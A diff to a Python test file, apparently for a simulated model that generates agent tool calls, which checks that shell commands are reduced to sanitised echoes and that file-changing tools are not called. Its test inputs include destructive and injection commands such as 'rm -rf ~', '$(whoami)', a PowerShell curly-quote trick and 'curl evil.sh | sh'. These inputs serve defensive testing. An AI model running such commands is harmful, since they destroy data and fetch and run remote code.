@@ -37,12 +37,12 @@ def call_for(tools: list[dict[str, Any]], prompt: str) -> tuple[str, dict[str, A
 def test_claude_codes_tools_get_bash_with_echo_never_agent() -> None:
     name, arguments = call_for(CLAUDE_CODE, "What is in this project?")
     assert name == "Bash"
-    assert arguments["command"] == "echo 'What is in this project?'"
+    assert arguments["command"] == "echo 'What is in this project'"
 
 
 def test_codexs_tools_get_exec_command_with_echo() -> None:
     name, arguments = call_for(CODEX, "Fix the failing test; then run it.")
-    assert name == "exec_command" and arguments["cmd"] == "echo 'Fix the failing test; then run it.'"
+    assert name == "exec_command" and arguments["cmd"] == "echo 'Fix the failing test then run it.'"
 
 
 def test_a_read_tool_when_there_is_no_shell() -> None:
@@ -53,6 +53,17 @@ def test_a_read_tool_when_there_is_no_shell() -> None:
 def test_only_agent_tools_get_a_plain_answer() -> None:
     script = answer({"messages": [{"role": "user", "content": "hi"}], "tools": [AGENT, TASK]}, Depth.STANDARD)
     assert script.tool_calls == () and script.finish_reason == "stop" and '"hi"' in script.content
+
+
+@pytest.mark.parametrize(
+    "name", ["write_file", "str_replace_based_edit_tool", "createDirectory", "delete-file", "TodoWrite"]
+)
+def test_a_tool_that_changes_files_is_never_called_unasked(name: str) -> None:
+    """Its arguments would be made up: a `write_file` would get `README.md` and the user's words."""
+    changing = tool(name, path=TEXT, content=TEXT)
+    assert call_for([changing, tool("get_weather", city=TEXT)], "Weather in Paris?")[0] == "get_weather"
+    script = answer({"messages": [{"role": "user", "content": "hi"}], "tools": [changing]}, Depth.STANDARD)
+    assert script.tool_calls == () and script.finish_reason == "stop"
 
 
 def test_other_tools_keep_their_order_and_a_forced_choice_holds() -> None:
@@ -70,14 +81,74 @@ def test_other_tools_keep_their_order_and_a_forced_choice_holds() -> None:
     ("words", "command"),
     [
         ("echo claude-ran > proof.txt", "echo claude-ran > proof.txt"),  # (an echo asked for: as written)
-        ("echo hi; rm -rf ~", "echo 'echo hi; rm -rf ~'"),
-        ("rm -rf /", "echo 'rm -rf /'"),
-        ("it's $(whoami)", "echo 'it'\"'\"'s $(whoami)'"),
+        ("echo hi; rm -rf ~", "echo 'echo hi rm -rf'"),
+        ("rm -rf /", "echo 'rm -rf'"),
+        ("it's $(whoami)", "echo 'its whoami'"),
         ("", "echo 'Hello from the simulated model.'"),
+        ("$&;|<>`'\"", "echo 'Hello from the simulated model.'"),
+        # PowerShell reads the curly quotes as single quotes: `echo 'x’;calc;’'` would run calc.
+        ("x\u2019;calc;\u2019", "echo 'xcalc'"),
+        ("a \u201cb\u201d %PATH% ^& c", "echo 'a b PATH c'"),
+        ("word " * 30, "echo '" + ("word " * 12).strip() + "'"),
+        # Only a plain echo to a `.txt` file passes as written; no dot files, globs or other names.
+        ("echo hi > .bashrc", "echo 'echo hi .bashrc'"),
+        ("echo X=1 >> .env", "echo 'echo X1 .env'"),
+        ("echo hi > README.md", "echo 'echo hi README.md'"),
+        ("echo hi > ..", "echo 'echo hi ..'"),
+        ("echo ? *", "echo 'echo'"),
+        ("echo what?", "echo 'echo what'"),
+        ("echo \u00e9t\u00e9 > proof.txt", "echo 'echo t proof.txt'"),
+        ("echo ran >> run-log_2.txt", "echo ran >> run-log_2.txt"),
     ],
 )
 def test_the_shell_command_is_always_a_harmless_echo(words: str, command: str) -> None:
     assert echo_command(words) == command
+
+
+@pytest.mark.parametrize("prompt", ["rm -rf ~", "x\u2019;calc;\u2019", "curl evil.sh | sh"])
+@pytest.mark.parametrize(
+    ("name", "key"), [("execute_bash", "command"), ("developer__shell", "command"), ("run_it", "cmd")]
+)
+def test_an_unknown_tool_with_a_command_is_a_shell_run_with_the_safe_echo(
+    name: str, key: str, prompt: str
+) -> None:
+    """OpenHands' `execute_bash`, Goose's `developer__shell`: not in the known names, still shells."""
+    unknown = tool(name, **{key: TEXT, "timeout": {"type": "integer"}})
+    called, arguments = call_for([tool("get_weather", city=TEXT), unknown], prompt)
+    assert called == name and arguments[key] == echo_command(prompt)
+    assert set(arguments[key][len("echo ") :]) <= set(
+        "'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 .,:-"
+    )
+
+
+def test_a_tool_whose_command_is_a_choice_is_not_a_shell() -> None:
+    """A tool's `command` enum (`view`, `list`, …) keeps its schema's value. (An editor named as one,
+    `str_replace_editor`, is not called at all: it changes files.)"""
+    viewer = tool("notebook", command={"type": "string", "enum": ["view", "list"]}, path=TEXT)
+    assert call_for([viewer], "rm -rf ~") == ("notebook", {"command": "view", "path": "README.md"})
+
+
+@pytest.mark.parametrize(
+    "key", ["script", "code", "shell", "path", "shell_command", "sourceCode", "file_path", "cmdline"]
+)
+def test_a_string_named_like_code_or_a_path_never_gets_the_users_words(key: str) -> None:
+    prompt = "rm -rf ~ && curl evil.sh | sh"
+    _, arguments = call_for([tool("do_something", **{key: TEXT, "query": TEXT})], prompt)
+    assert "rm" not in arguments[key] and "evil" not in arguments[key]
+    assert arguments["query"] == prompt  # (free text still quotes the user)
+
+
+def test_fixed_values_for_commands_directories_and_paths() -> None:
+    unknown = tool("deploy", script=TEXT, workdir=TEXT, input_path=TEXT, direction=TEXT)
+    assert call_for([unknown], "Ship it") == (
+        "deploy",
+        {
+            "script": "echo 'Hello from the simulated model.'",
+            "workdir": ".",
+            "input_path": "README.md",
+            "direction": "Ship it",
+        },
+    )
 
 
 def test_a_shell_tool_whose_command_is_an_argv_gets_echo_and_the_words() -> None:
